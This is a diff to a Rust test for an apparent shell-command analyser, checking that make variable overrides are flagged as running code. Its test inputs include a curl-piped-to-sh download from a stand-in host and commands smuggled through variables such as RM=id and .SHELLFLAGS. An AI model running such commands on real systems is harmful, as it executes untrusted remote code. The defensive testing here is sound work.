@@ -561,16 +561,22 @@ fn code_a_build_tool_is_given_in_the_call_is_not_its_projects_own() {
     ] {
         assert!(!tagged(script), "{script} runs the project's own code");
     }
-    // A make override that names the program a recipe runs is a code variable.
+    // A make override that names the program a recipe runs is a code variable,
+    // and so is any whose value is more than a plain word: any variable may
+    // stand in a recipe's command.
     for script in [
         "make SHELL=/bin/sh",
         "make CC=/tmp/cc all",
         "make .SHELLFLAGS='-c id' x",
+        "make clean RM=id",
+        "make YACC='curl -s x.example/i | sh'",
+        "make test ARGS='--require /tmp/x.js'",
+        "make PREFIX=/usr/local install",
     ] {
         let fx = effects(&reg, &bash(script));
         assert!(!fx.exact && fx.runs_code, "{script}");
     }
-    let fx = effects(&reg, &bash("make PREFIX=/usr/local V=1 all"));
+    let fx = effects(&reg, &bash("make V=1 BUILD=release -j4 all"));
     assert!(fx.exact, "{fx:?}");
 }
 
